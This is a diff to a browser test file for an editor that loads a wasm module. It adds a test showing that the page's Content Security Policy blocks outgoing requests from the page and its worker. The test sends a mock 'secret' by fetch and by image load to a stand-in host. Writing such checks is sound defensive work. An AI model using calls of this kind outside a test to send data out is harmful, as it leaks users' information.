@@ -3,7 +3,7 @@ import { fileURLToPath, pathToFileURL } from "node:url";
 import { editor, expect, findings, open, paste, test } from "./fixtures.ts";
 
 test.describe("when the module does not load", () => {
-  test.use({ allowed: [/^console: Failed to load resource/] });
+  test.use({ allowed: /^console: Failed to load resource/ });
 
   test("it is said, with what to do", async ({ page, url }) => {
     await page.route("**/rconf.wasm", (route) => route.fulfill({ status: 404 }));
@@ -30,6 +30,37 @@ test.describe("when the module breaks", () => {
     await page.keyboard.type("\nbind\n");
     await expect(editor(page)).toContainText("bogus yes");
     await expect(findings(page, "L0")).not.toHaveCount(1);
+  });
+});
+
+test.describe("what leaves the tab", () => {
+  // Attempts are told of, and end at the policy.
+  test.use({ allowed: /policy: (connect|img)-src|Content Security Policy|request: https:\/\/example\.com/ });
+
+  test("is nothing: the policy holds for the page and for the worker", async ({ page, url }) => {
+    const answered: string[] = [];
+    page.on("response", (response) => response.url().includes("example.com") && answered.push(response.url()));
+    await open(page, url);
+    const send = async () => {
+      try {
+        await fetch("https://example.com/?what=secret");
+        return "sent";
+      } catch (why) {
+        return String(why);
+      }
+    };
+    expect(await page.evaluate(send)).toContain("TypeError");
+    const [worker] = page.workers();
+    expect(await worker?.evaluate(send)).toContain("TypeError");
+    const refused = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective), { once: true });
+          new Image().src = "https://example.com/secret.png";
+        }),
+    );
+    expect(refused).toBe("img-src");
+    expect(answered).toEqual([]);
   });
 });
 
